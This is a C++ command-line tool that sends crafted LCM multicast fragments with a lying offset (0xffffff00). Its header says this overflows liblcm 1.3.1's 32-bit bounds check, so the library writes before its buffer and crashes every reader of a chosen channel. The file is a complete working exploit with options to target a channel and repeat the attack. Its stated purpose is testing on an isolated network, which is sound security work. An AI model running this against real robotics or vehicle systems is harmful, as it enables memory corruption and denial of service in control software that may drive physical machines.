// Sends LCM fragments that lie: two datagrams of one message of 700 bytes, the second of which says that its 700 bytes
// begin at 0xffffff00. In 32 bits offset and size together are 444, which liblcm 1.3.1 takes for inside, and writes
// them 256 bytes before its memory. What reads the channel dies. For tests, on a network of their own.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

struct Options {
  std::string group = "239.255.76.67";
  int port = 7667;
  std::string channel = "JOINT_STATE";
  double seconds = 0.0;  // 0: once
  double hz = 10.0;
};

using Bytes = std::vector<std::uint8_t>;

void append(Bytes* bytes, std::uint32_t value, int size) {
  for (int shift = 8 * (size - 1); shift >= 0; shift -= 8) bytes->push_back(static_cast<std::uint8_t>(value >> shift));
}

Bytes fragment(std::uint32_t message, std::uint32_t offset, std::uint32_t number, const std::string& channel,
               std::size_t part) {
  constexpr std::uint32_t kMagic = 0x4c433033;  // "LC03"
  constexpr std::uint32_t kMessageSize = 700;
  Bytes bytes;
  append(&bytes, kMagic, 4);
  append(&bytes, message, 4);
  append(&bytes, kMessageSize, 4);
  append(&bytes, offset, 4);
  append(&bytes, number, 2);
  append(&bytes, 3, 2);  // fragments: one never comes
  if (number == 0) {
    bytes.insert(bytes.end(), channel.begin(), channel.end());
    bytes.push_back(0);
  }
  bytes.resize(bytes.size() + part, 0x41);
  return bytes;
}

}  // namespace

int main(int argc, char** argv) {
  Options options;
  CLI::App app("Sends LCM fragments that lie about where they belong", "crafted-fragment");
  app.add_option("--group", options.group, "Multicast group")->capture_default_str();
  app.add_option("--port", options.port, "Its port")->capture_default_str();
  app.add_option("--channel", options.channel, "Whose readers shall die")->capture_default_str();
  app.add_option("--for", options.seconds, "Again and again for so long, s; 0: once")->capture_default_str();
  app.add_option("--rate", options.hz, "So often, Hz")->capture_default_str();
  CLI11_PARSE(app, argc, argv);
  const int descriptor = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  const std::uint8_t ttl = 0;
  setsockopt(descriptor, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(options.port));
  inet_pton(AF_INET, options.group.c_str(), &address.sin_addr);
  const auto send = [&](const Bytes& bytes) {
    if (sendto(descriptor, bytes.data(), bytes.size(), 0, reinterpret_cast<const sockaddr*>(&address), sizeof address) <
        0)
      std::perror("crafted-fragment");
  };
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(options.seconds);
  std::uint32_t message = static_cast<std::uint32_t>(getpid()) << 8;
  do {
    ++message;
    send(fragment(message, 0, 0, options.channel, 100));
    send(fragment(message, 0xffffff00, 1, options.channel, 700));
    if (options.seconds > 0.0) std::this_thread::sleep_for(std::chrono::duration<double>(1.0 / options.hz));
  } while (std::chrono::steady_clock::now() < end);
  close(descriptor);
  return 0;
}
